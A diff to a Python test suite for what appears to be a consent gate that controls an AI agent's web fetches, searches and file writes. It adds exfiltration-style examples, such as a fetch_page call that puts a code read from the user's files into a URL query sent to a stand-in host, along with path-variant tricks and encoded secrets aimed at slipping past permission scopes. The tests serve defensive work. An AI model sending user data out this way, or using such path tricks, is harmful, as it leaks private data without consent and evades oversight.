@@ -319,6 +319,9 @@ async def test_one_persons_notes_never_reach_another_chat(flow_mode: FlowMode) -
     assert len(person.asked) == 1
 
 
+_COPIED = "a value holds what was read from your own data (your files), and this sends data out"
+
+
 async def test_the_question_names_what_was_read_and_where_a_value_comes_from() -> None:
     ran, person = Ran("the address of the plan is https://plan.example/7f3a"), Person()
     one = gate(group(*_files(ran)), person=person)
@@ -329,7 +332,7 @@ async def test_the_question_names_what_was_read_and_where_a_value_comes_from() -
     assert person.asked[0]["words"].splitlines() == [
         "May I use fetch_page?",
         "It opens a page at plan.example, which learns the whole address below.",
-        "Why I ask: the rule “read-pages” of the security policy asks for it.",
+        f"Why I ask: the rule “read-pages” of the security policy asks for it; {_COPIED}.",
         "It has read your own: your files.",
         "A value below holds words from your files.",
         'Url: "https://plan.example/7f3a"',
@@ -344,19 +347,69 @@ async def test_what_is_allowed_for_a_conversation_covers_that_file_alone_and_not
     await propose(one, _write(), scope=scope())
     assert (person.can_last, "rule_granted" in audit.types()) == ([True], True)
     person.answer = "refused"
-    again = [_write("a.txt", "other", "2"), _write("own/./A.txt", "more", "3")]
+    again = [_write("a.txt", "other", "2"), _write("own/a.txt", "more", "3")]
     assert [result.success for result in await propose(one, *again, scope=scope())] == [True, True]
     assert len(person.asked) == 1
     foreign.note("a web page")
     for what, turn in (
         (_write("own/b.txt", name="4"), scope()),
+        # Each of these is another file, or could be.
+        (_write("own/A.txt", name="8"), scope()),
+        (_write("own\\a.txt", name="9"), scope()),
+        (_write("own/./a.txt", name="10"), scope()),
         (call("delete_file", {"path": "own/a.txt"}, call_id="5"), scope()),
         (_write(name="6"), scope(session_id="ses-2")),
         (_write(name="7"), scope(foreign=foreign)),
     ):
         (result,) = await propose(one, what, scope=turn)
         assert not result.success
-    assert (len(person.asked), len(ran.calls)) == (5, 3)
+    assert (len(person.asked), len(ran.calls)) == (8, 3)
+
+
+_LETTER = "Dear Sir, the account is DE89370400440532013000 and the code is zx81-4711-qq."
+
+
+@pytest.mark.parametrize(
+    "query",
+    [
+        "DE89370400440532013000",
+        "what is ZX81-4711-QQ?",
+        "zx81%2D4711%2Dqq",
+        "Dear sir the account",
+        "dear-sir--the-account is overdrawn",
+    ],
+)
+async def test_a_person_is_asked_before_their_own_data_leaves_in_a_search(query: str) -> None:
+    assert await _asked_about_search(query) == 1
+
+
+@pytest.mark.parametrize(
+    "query", ["how to write dear sir", "what is an account code", "museums on the coast"]
+)
+async def test_a_search_with_single_words_of_own_data_runs_without_a_question(query: str) -> None:
+    assert await _asked_about_search(query) == 0
+
+
+async def test_own_data_does_not_leave_to_a_host_that_was_allowed_for_the_conversation() -> None:
+    ran, person = Ran(_LETTER), Person("for_conversation")
+    one = gate(group(*_files(ran)), person=person)
+    read = call("read_file", {"path": "own/a"})
+    pages = [call("fetch_page", {"url": f"https://a.example/{end}"}, call_id=end) for end in ("1", "2")]
+    await propose(one, read, *pages, scope=scope())
+    assert len(person.asked) == 1
+    person.answer = "refused"
+    sent = call("fetch_page", {"url": "https://a.example/?d=zx81-4711-qq"}, call_id="3")
+    (result,) = await propose(one, sent, scope=scope())
+    assert (result.success, len(person.asked)) == (False, 2)
+
+
+async def _asked_about_search(query: str) -> int:
+    """How often a person is asked if a conversation has read a letter and then searches."""
+    person, letter = Person("refused"), Ran(_LETTER)
+    one = gate(group(*_files(letter)), person=person)
+    read = call("read_file", {"path": "own/a"})
+    await propose(one, read, call("search_web", {"text": query}, call_id="2"), scope=scope())
+    return len(person.asked)
 
 
 async def test_tools_of_others_cannot_be_allowed_for_a_conversation() -> None:
